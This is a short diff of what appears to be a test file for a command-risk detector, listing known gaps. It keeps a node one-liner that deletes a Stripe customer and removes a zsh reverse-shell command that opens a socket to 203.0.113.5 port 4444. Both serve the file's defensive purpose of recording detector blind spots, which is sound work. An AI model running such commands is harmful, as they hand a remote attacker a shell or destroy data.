@@ -201,9 +201,6 @@ GAPS = {
     "node -e \"const s = require('stripe')('sk'); s.customers.del('cus_1')\"": (
         "a destructive SDK method named by a verb alone (del) on a collection is not read as one"
     ),
-    "zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.5 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'": (
-        "zsh's ztcp module opens a socket whose descriptor is only known at run time ($REPLY)"
-    ),
 }
 
 
